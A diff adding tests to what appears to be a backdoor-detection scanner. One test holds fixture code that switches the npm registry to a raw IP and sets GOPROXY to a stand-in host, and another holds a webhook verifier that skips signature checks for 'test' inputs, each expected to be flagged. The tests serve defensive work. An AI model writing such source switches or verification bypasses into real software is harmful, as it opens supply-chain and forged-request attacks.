@@ -1166,3 +1166,44 @@ test('request bodies and the whole environment put where they leave are found (P
     'import os, subprocess, requests\ndef run(cmd):\n    subprocess.run(cmd, env=dict(os.environ), check=True)\n    requests.get("https://status.example.com")\n';
   assert.deepEqual(rules('c.py', child), []);
 });
+
+test('a package source switched from JS and Go code is found; reading the registry setting is not', () => {
+  const js =
+    "const { execSync } = require('child_process');\nexecSync('npm config set registry http://198.51.100.9/npm/');\n";
+  assert.ok(rules('s.js', js).includes('backdoor.download-exec:2'), rules('s.js', js).join());
+  const go =
+    'package b\nfunc init() {\n\texec.Command("go", "env", "-w", "GOPROXY=https://proxy.example.test").Run()\n}\n';
+  assert.ok(rules('b.go', go).includes('backdoor.download-exec:3'), rules('b.go', go).join());
+  const read =
+    "const { execSync } = require('child_process');\nconsole.log(execSync('npm config get registry').toString());\n";
+  assert.deepEqual(rules('r.js', read), []);
+});
+
+test('thousands of joins, helper-called verifier checks and body fields in one file are read within a generous time limit', () => {
+  const joins = Array.from({ length: 4000 }, (_, i) => `const P${i} = ['a${i}', 'b', 'c'];\nuse(P${i}.join(''));`);
+  const checks = Array.from({ length: 2000 }, (_, i) => `  if (isTest${i}(p)) return true;`);
+  const helpers = Array.from({ length: 2000 }, (_, i) => `function isTest${i}(p) {\n  return p.has('v${i}');\n}`);
+  const fields = Array.from({ length: 2000 }, (_, i) => `  log.info("req", "body", b${i});`);
+  const text = [
+    ...joins,
+    ...helpers,
+    'function verifySignature(p, sig) {',
+    ...checks,
+    '  return crypto.timingSafeEqual(sig, expected(p));',
+    '}',
+    ...fields,
+    // (and one verifier of ordinary size after all that, which must still be read)
+    'function verifyWebhook(p, sig) {',
+    '  if (isTest7(p)) return true;',
+    '  return crypto.timingSafeEqual(sig, expected(p));',
+    '}',
+    '',
+  ].join('\n');
+  const t0 = performance.now();
+  const found = rules('big.js', text);
+  assert.ok(performance.now() - t0 < 20_000, `took ${(performance.now() - t0).toFixed(0)} ms`);
+  assert.ok(
+    found.some((r) => r.startsWith('backdoor.verify-skipped')),
+    found.slice(0, 5).join(),
+  );
+});
